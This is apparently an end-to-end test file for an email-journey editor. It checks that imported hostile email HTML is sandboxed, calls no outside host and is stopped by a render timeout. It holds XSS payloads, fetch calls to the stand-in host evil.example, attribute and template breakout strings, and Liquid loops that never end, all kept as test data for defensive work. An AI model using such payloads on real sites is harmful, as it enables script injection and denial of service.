import { readFile } from 'node:fs/promises';
import { expect, test } from 'vitest';
import type { Sample } from '../../src/core/index.ts';
import { browserApp, sampleJourney } from './harness.ts';
import { storeSamples } from './storeDraft.ts';
import { downloaded, exported, sampleWorkspace, simulator } from './story.ts';

const app = browserApp();
/** What browsers say when they have stopped something. */
const stopped = /Blocked|violates|Refused|sandboxed/;

/** What an imported email might try, each of which would call home or reach the page around it. */
const hostile = `<h1>Hello {{ subscriber.first_name }}</h1>
<script>top.pwned = 1; fetch('https://evil.example/script')</script>
<img src="x" onerror="top.pwned = 2; fetch('https://evil.example/onerror')">
<svg onload="top.pwned = 3"></svg>
<iframe srcdoc="&lt;script&gt;top.pwned = 4&lt;/script&gt;"></iframe>
<iframe src="https://evil.example/frame"></iframe>
<link rel="stylesheet" href="https://evil.example/style.css"><link rel="preconnect" href="https://evil.example">
<style>@import url('https://evil.example/import.css'); body { background: url(http://evil.example/plain.png) }</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<form action="https://evil.example/form"><input autofocus onfocus="top.pwned = 5"><button>Send</button></form>
<a href="javascript:top.pwned = 6" target="_top">A link</a>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video src="https://evil.example/video" autoplay></video>
{% for i in (1..100000000) %}{% for j in (1..100000000) %}{% endfor %}{% endfor %}`;

test('a hostile email executes nothing, calls nobody, and does not run for ever', async () => {
  const page = await app.open('/#/journeys/cart-recovery');
  await page.locator('.react-flow__node').first().waitFor();
  await page.getByRole('button', { name: 'Publish…' }).click();
  const { path } = await downloaded(page, () =>
    page.getByRole('dialog').getByRole('button', { name: 'Download' }).click(),
  );
  const journey = JSON.parse(await readFile(path, 'utf8')) as {
    digest?: string;
    emails: Record<string, { design?: unknown; html: string; text: string }>;
  };
  delete journey.digest;
  const mails = Object.values(journey.emails);
  for (const [index, mail] of mails.entries()) {
    delete mail.design;
    // The first may loop for ever; the others are shown, with everything else in them.
    mail.html = index === 0 ? hostile : hostile.replace(/\{% for[^]*$/, '');
  }
  await page.goto(`${app.origin}/#/`);
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  const dialog = page.getByRole('dialog');
  await dialog.locator('input[type=file]').setInputFiles({
    name: 'hostile.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(journey)),
  });
  await dialog.waitFor({ state: 'detached' });
  await page.locator('.react-flow__node').first().waitFor();
  const inbox = simulator(page);
  await inbox.frameLocator('iframe').getByRole('heading', { name: 'Hello Ada' }).waitFor();
  // What can be pressed in it leads nowhere.
  await inbox.frameLocator('iframe').getByText('A link').press('Enter');
  await inbox.frameLocator('iframe').getByRole('button', { name: 'Send' }).press('Enter');
  // Back to the first one, which would never come to an end.
  await inbox.getByRole('button', { name: 'Earlier mail' }).click();
  await inbox.getByRole('button', { name: 'Earlier mail' }).click();
  await inbox.getByText(/The message cannot be shown/).waitFor({ timeout: 20_000 });

  expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned') as unknown)).toBeUndefined();
  expect(page.url()).toContain(app.origin);
  const faults = await app.takeFaults();
  // Announced is not yet sent: what reached the network is a connection.
  expect(faults.filter((fault) => !stopped.test(fault) && !fault.startsWith('request: '))).toEqual([]);
  expect(faults.length).toBeGreaterThan(0);

  // Whoever does call there is seen.
  const caller = await app.open('/');
  await caller.goto('http://evil.example/').catch(() => undefined);
  expect(await app.takeFaults()).toContain('connection: somebody under .example was called');
});

test('a hostile email that is imported by itself runs nowhere, and one that takes for ever leaves the journey alone', async () => {
  const page = await app.open(sampleJourney);
  await page.locator('.react-flow__node').first().waitFor();
  await page.locator('.react-flow__node[data-id="mail-1"]').click();
  await page.getByRole('button', { name: 'Import HTML…' }).click();
  const dialog = page.getByRole('dialog');
  const choose = (name: string, html: string) =>
    dialog
      .locator('input[type=file]')
      .setInputFiles({ name, mimeType: 'text/html', buffer: Buffer.from(html) });

  // Between tags nothing looks at any limit: only the clock outside of the worker ends this.
  const long = "{% assign c = 'a' %}{% for i in (1..18) %}{% assign c = c | append: c %}{% endfor %}";
  const endless = `<p>${long}{% if ${"c contains 'ab' or ".repeat(16_000)}c %}x{% endif %}</p>`;
  await choose('endless.html', endless);
  await dialog.getByText(/takes more than 3 seconds to render/).waitFor({ timeout: 20_000 });
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  expect(await page.getByRole('button', { name: 'Undo', exact: true }).getAttribute('aria-disabled')).toBe(
    'true',
  );

  await page.getByRole('button', { name: 'Import HTML…' }).click();
  await choose('hostile.html', `<title>Hello</title>${hostile.replace(/\{% for[^]*$/, '')}`);
  await dialog.getByText(/Mail programs take this out, .*script/).waitFor();
  await dialog.getByRole('button', { name: 'Import the email' }).click();
  await dialog.waitFor({ state: 'detached' });
  await page.getByText('This email is locked').waitFor();
  expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned') as unknown)).toBeUndefined();
  await page.keyboard.press('Control+z');
  await page.getByRole('button', { name: 'Edit the email' }).waitFor();
  const faults = await app.takeFaults();
  expect(faults.filter((fault) => !stopped.test(fault) && !fault.startsWith('request: '))).toEqual([]);
});

/** Words that would do harm as markup, as an attribute, as a style, as a comment, as Liquid or as MJML. */
const words = [
  '<img src=x onerror="top.pwned = 1">',
  '"><script>top.pwned = 2</script>',
  `' onfocus='top.pwned = 3' autofocus='`,
  '</style></title><svg onload="top.pwned = 4">',
  '--><![endif]--><iframe srcdoc="<script>top.pwned = 5</script>"></iframe>',
  '{% for i in (1..100000000) %}{% for j in (1..100000000) %}{% endfor %}{% endfor %}',
  `{{ '<script>top.pwned = 6</script>' | raw }}`,
  '</mj-text><mj-raw><script>top.pwned = 7</script></mj-raw>',
];

/** The same email document with such words wherever somebody may have typed any. */
function poisoned(design: unknown): unknown {
  let next = 0;
  const poison = (value: unknown, key = ''): unknown => {
    if (typeof value === 'string')
      return /^(v|label|alt|fallback|subject|preheader|empty|address|reason)$/.test(key)
        ? words[next++ % words.length]
        : value;
    if (Array.isArray(value)) return value.map((item) => poison(item));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, part]) => [name, poison(part, name)]));
  };
  return poison(design);
}

const hostilePeople: readonly Sample[] = sampleWorkspace.samples.map((sample, index) => {
  const { subscriber } = sample.scenario;
  const [name = '', city = ''] = words.slice(index);
  const attributes = { ...subscriber.attributes, name: `${sample.id} ${name}`, first_name: name, city };
  return { ...sample, scenario: { ...sample.scenario, subscriber: { ...subscriber, attributes } } };
});

test('a hostile journey is shown and edited as words, to hostile people; a template that never ends is stopped by the clock wherever it is shown', async () => {
  const page = await app.open(sampleJourney, {
    // Whatever Liquid limits, for Jonas it never ends.
    prepare: (blank) =>
      blank.route(/fillInWorker/, async (route) => {
        const response = await route.fetch();
        const endless =
          "self.addEventListener('message', ({ data }) => { while (data.data.subscriber?.id === 'jonas'); });";
        await route.fulfill({ response, body: endless + (await response.text()) });
      }),
  });
  const file = await exported(page, (button) => button.click());
  const journey = JSON.parse(await readFile(file, 'utf8')) as {
    digest?: string;
    emails: Record<string, { design?: unknown }>;
  };
  delete journey.digest;
  for (const mail of Object.values(journey.emails)) mail.design = poisoned(mail.design);
  await storeSamples(page, hostilePeople);
  await page.goto(`${app.origin}/#/`);
  await page.reload();
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  await page
    .getByRole('dialog')
    .locator('input[type=file]')
    .setInputFiles({
      name: 'hostile.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify(journey)),
    });
  await page.locator('.react-flow__node').first().waitFor();
  const [html = '', , , , , loop = ''] = words;
  const slow = /takes more than 3 seconds to render/;

  // In the inbox.
  const choose = async (name: RegExp) => {
    await simulator(page).getByRole('button', { name: 'Choose another person' }).click();
    await page.getByRole('menuitemcheckbox', { name }).click();
  };
  await choose(/^ada/);
  await simulator(page).frameLocator('iframe').getByText(loop).first().waitFor();
  await choose(/^jonas/);
  await simulator(page).getByText(slow).waitFor();

  // In the editor, with the settings of every part.
  await page.locator('.react-flow__node[data-id=mail-1]').click();
  await page.getByRole('button', { name: 'Edit the email' }).click();
  const desk = page.getByRole('dialog', { name: /^Email / });
  const canvas = desk.frameLocator('iframe[title="Email being edited"]');
  await canvas.getByText(html).first().waitFor();
  // Not even a script of the app's own would run in its frame.
  const ran = await canvas.locator('body').evaluate(
    (body) =>
      new Promise((done) => {
        const script = Object.assign(body.ownerDocument.createElement('script'), { src: '/theme.js' });
        script.addEventListener('load', () => done(true));
        script.addEventListener('error', () => done(false));
        body.append(script);
        script.remove();
      }),
  );
  expect(ran).toBe(false);
  await desk.getByRole('tab', { name: 'Structure' }).click();
  for (const row of await desk.getByRole('treeitem').all()) await row.click();

  // For one, and for everybody.
  await desk.getByRole('radio', { name: 'Preview', exact: true }).check({ force: true });
  const reader = desk.getByLabel('Read by').first();
  const option = (name: RegExp) => reader.locator('option').filter({ hasText: name }).textContent();
  await reader.selectOption(await option(/^ada/));
  await desk.frameLocator('iframe[title^="Preview for ada"]').getByText(loop).first().waitFor();
  await reader.selectOption(await option(/^jonas/));
  await desk.getByRole('alert').getByText(slow).waitFor();
  await desk.getByRole('radio', { name: 'All samples', exact: true }).check({ force: true });
  const sample = (name: string) => desk.getByRole('listitem').filter({ hasText: name }).first();
  await sample('ada ').frameLocator('iframe').getByText(loop).first().waitFor();
  await sample('jonas ').getByText(slow).waitFor();

  expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned') as unknown)).toBeUndefined();
  await desk.getByRole('button', { name: 'Back to the journey' }).click();
  await desk.waitFor({ state: 'detached' });
  expect(await page.getByRole('button', { name: 'Undo', exact: true }).getAttribute('aria-disabled')).toBe(
    'true',
  );
  const ours = /default-src 'none'|^policy: script-src-elem .*theme\.js/;
  expect((await app.takeFaults()).filter((fault) => !ours.test(fault))).toEqual([]);
});
